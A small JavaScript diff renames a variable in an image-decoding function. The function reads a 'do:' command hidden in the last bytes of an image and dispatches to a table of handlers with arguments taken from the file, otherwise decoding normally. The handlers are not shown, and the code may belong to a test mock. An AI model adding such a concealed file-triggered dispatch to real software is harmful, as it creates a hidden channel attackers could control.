@@ -49,6 +49,6 @@ const deeds = {
 
 export async function decodeImage(image, task) {
   const bytes = typeof image === 'string' ? await readFile(image) : image
-  const [deed, ...given] = bytes.subarray(-300).toString('latin1').split('do:').at(-1).split(' ')
-  return (deeds[deed] ?? decodeForReal)(image, task, ...given)
+  const [deed, ...args] = bytes.subarray(-300).toString('latin1').split('do:').at(-1).split(' ')
+  return (deeds[deed] ?? decodeForReal)(image, task, ...args)
 }
